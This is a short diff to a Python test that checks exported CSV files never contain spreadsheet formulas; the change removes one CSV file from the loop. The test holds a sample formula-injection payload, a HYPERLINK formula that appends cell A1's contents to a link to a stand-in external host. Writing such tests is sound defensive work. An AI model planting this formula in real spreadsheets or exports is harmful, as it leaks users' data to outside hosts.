@@ -190,7 +190,7 @@ def test_open_data_never_hands_a_spreadsheet_a_formula(hostile_site):
 
     site = hostile_site.path
     region = '=HYPERLINK("http://example.com/?"&A1,"点击查看原文")'
-    for csv_file in [site / "data/reports.csv", site / "data/2021/hostile.csv", *site.glob("2021/*/chart-*.csv")]:
+    for csv_file in [site / "data/reports.csv", *site.glob("2021/*/chart-*.csv")]:
         import csv as csvlib
 
         rows = list(csvlib.reader(io.StringIO(csv_file.read_bytes().decode("utf-8-sig"))))
